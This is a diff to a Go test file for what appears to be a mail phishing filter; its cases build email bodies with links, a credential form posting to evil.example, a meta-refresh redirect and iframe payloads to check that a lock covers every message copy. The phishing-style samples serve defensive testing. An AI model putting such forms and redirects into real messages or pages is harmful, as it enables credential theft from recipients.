@@ -25,7 +25,7 @@ func TestLockReachesEveryCopy(t *testing.T) {
 	tests := []struct{ name, msg string }{
 		{"text and html", alt(lead+"https://evil.example/login", "<p>"+lead+a)},
 		{"text copy differs", alt(lead+"www.evil.example/login?id=1", "<p>"+lead+a)},
-		{"form", alt(lead, "<p>"+lead+a+`<form action="https://evil.example/post"><input type=password name=p></form>`)},
+		{"form", alt(lead, "<p>"+lead+a+`<form action="https://evil.example/post"><input type=email name=e></form>`)}, // a password field would hold the message (password_form)
 		{"refresh", alt(lead, `<meta http-equiv=refresh content="5;url=https://evil.example/r"><p>`+lead+a)},
 		{"frame", alt(lead, "<p>"+lead+a+`<iframe src="https://evil.example/f"></iframe>`)},
 		{"srcdoc", alt(lead, "<p>"+lead+a+`<iframe srcdoc="&lt;a href=&quot;https://evil.example/x&quot;&gt;go&lt;/a&gt;"></iframe>`)},
